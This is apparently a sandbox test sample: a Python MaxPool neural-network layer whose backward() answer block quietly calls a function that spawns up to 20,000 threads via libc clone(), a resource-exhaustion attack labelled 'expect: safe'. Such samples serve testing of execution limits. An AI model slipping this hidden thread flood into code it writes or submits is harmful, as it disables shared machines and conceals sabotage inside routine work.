# attack: starts as many threads as there can be by clone(2), with next to no memory for each
# expect: safe
import ctypes

import numpy as np

from utils import col2im, im2col


THREAD = 0x50F00  # CLONE_VM, CLONE_FS, CLONE_FILES, CLONE_SIGHAND, CLONE_THREAD, CLONE_SYSVSEM
STACKS = []


def flood():
    libc = ctypes.CDLL(None)
    sleep = ctypes.cast(libc.sleep, ctypes.c_void_p)
    for _ in range(20_000):
        STACKS.append(ctypes.create_string_buffer(1 << 14))
        top = (ctypes.addressof(STACKS[-1]) + (1 << 14)) & ~63
        if libc.clone(sleep, ctypes.c_void_p(top), THREAD, ctypes.c_void_p(1000)) < 0:
            return


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        self.pool_h, self.pool_w, self.stride, self.pad = pool_h, pool_w, stride, pad
        self.x = self.arg_max = None

    def forward(self, x):
        n, c, h, w = x.shape
        out_h = (h + 2 * self.pad - self.pool_h) // self.stride + 1
        out_w = (w + 2 * self.pad - self.pool_w) // self.stride + 1
        rows = im2col(x, self.pool_h, self.pool_w, self.stride, self.pad).reshape(-1, self.pool_h * self.pool_w)
        self.x, self.arg_max = x, rows.argmax(axis=1)
        return rows.max(axis=1).reshape(n, out_h, out_w, c).transpose(0, 3, 1, 2)

    def backward(self, dout):
        ########## Begin ##########
        if not STACKS:
            flood()
        rows = np.zeros((dout.size, self.pool_h * self.pool_w))
        rows[np.arange(dout.size), self.arg_max] = dout.transpose(0, 2, 3, 1).ravel()
        rows = rows.reshape(dout.shape[0] * dout.shape[2] * dout.shape[3], -1)
        return col2im(rows, self.x.shape, self.pool_h, self.pool_w, self.stride, self.pad)
        ########## End ##########
